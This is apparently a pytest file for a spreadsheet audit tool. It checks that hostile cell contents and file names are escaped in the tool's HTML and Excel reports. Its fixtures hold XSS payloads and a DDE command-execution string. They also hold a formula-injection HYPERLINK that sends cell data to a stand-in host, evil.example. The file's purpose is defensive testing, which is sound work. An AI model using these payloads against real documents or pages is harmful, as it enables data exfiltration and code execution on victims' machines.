"""Nothing in an uploaded package can attack the reader of the report (hostile-input.md O1/O2):
payloads in cells and in file names go through ``preaudit run`` and come out as inert text."""

from __future__ import annotations

import shutil
import subprocess
import zipfile
from datetime import datetime
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest

from preaudit.pipeline import cli
from preaudit.pipeline.exitcodes import ExitCode

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
JS_URL = "javascript:alert(1)"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"点击")'
DDE = "=cmd|' /C calc'!A0"
HEADER = ["工单编号", "客户姓名", "联系电话", "故障现象", "处理结果", "报修时间", "客户签字"]
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"


class _Collector(HTMLParser):
    """Every start tag and attribute of a page, as a browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs.extend((tag, name, value or "") for name, value in attrs)


def _assert_inert(html: str) -> None:
    page = _Collector()
    page.feed(html)
    assert "script" not in page.tags
    assert "img" not in page.tags  # the report draws no pictures: an <img> was injected
    for tag, name, value in page.attrs:
        assert not name.lower().startswith("on"), (tag, name)
        assert not value.strip().lower().startswith("javascript:"), (tag, name, value)


@pytest.fixture(scope="module")
def hostile_package(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("xss") / "pkg"
    root.mkdir()
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["售后服务工单登记表"])
    sheet.append(HEADER)
    payloads = [SCRIPT, IMG, JS_URL, FORMULA, DDE, "+SUM(1,2)", "@cmd", "-2+3"]
    for n, payload in enumerate(payloads, start=1):
        # No signature: every row is evidence of a finding, so its id reaches the report.
        sheet.append(
            [payload, payload, f"1380013{n:04d}", payload, "更换", datetime(2026, 10, n), None]
        )
    book.save(root / f"{IMG}.xlsx")
    (root / "sub").mkdir()
    (root / "sub" / f"{JS_URL}.pdf").write_text(f"<html>{SCRIPT}</html>", encoding="utf-8")
    # A file name cannot hold "/", a path can: this one is shown as "<script>…</script>.docx".
    (root / "<script>alert(1)<").mkdir()
    (root / "<script>alert(1)<" / "script>.docx").write_bytes(b"")
    (root / '=HYPERLINK("evil","x").pdf').write_bytes(b"")
    (root / "application.toml").write_text("as_of = 2026-11-20\n", encoding="utf-8")
    return root


@pytest.fixture(scope="module", params=["mask", "no-mask"])
def report_dir(request: pytest.FixtureRequest, hostile_package: Path, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp(f"out-{request.param}")
    args = ["run", str(hostile_package), "--out", str(out), "--quiet", "--lang", "en"]
    if request.param == "no-mask":
        args.append("--no-mask")
    assert cli.main(args) == ExitCode.OK
    return out


def test_payloads_are_escaped_in_the_html(report_dir: Path) -> None:
    html = (report_dir / "report.html").read_text("utf-8")
    _assert_inert(html)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # the file name, shown as text
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "Content-Security-Policy" in html and "default-src 'none'" in html
    assert "http://" not in html.replace("http://evil.example", "")  # nothing fetched


def test_payloads_are_escaped_in_the_unmasked_evidence(hostile_package: Path, tmp_path) -> None:
    out = tmp_path / "out"
    assert cli.main(["run", str(hostile_package), "--out", str(out), "--quiet", "--no-mask"]) == 0
    html = (out / "report.html").read_text("utf-8")
    _assert_inert(html)
    assert html.count("&lt;script&gt;") >= 2  # file name and at least one cell


@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="no chromium on this machine")
def test_a_real_browser_builds_no_injected_element(report_dir: Path, tmp_path: Path) -> None:
    page = report_dir / "report.html"
    result = subprocess.run(
        [
            CHROMIUM,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            f"--user-data-dir={tmp_path}",
            "--dump-dom",
            page.as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    if result.returncode != 0 or "<html" not in result.stdout:
        pytest.skip(f"chromium could not render here: {result.stderr[-300:]}")
    _assert_inert(result.stdout)
    assert "<script>alert(1)</script>" in result.stdout.replace("&lt;", "<").replace("&gt;", ">")


def test_formulas_stay_text_in_the_workbook(report_dir: Path) -> None:
    path = report_dir / "findings.xlsx"
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    book = openpyxl.load_workbook(path)
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    seen.append(cell.value)
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
    assert any(value.startswith("=HYPERLINK") for value in seen)  # the file name at least
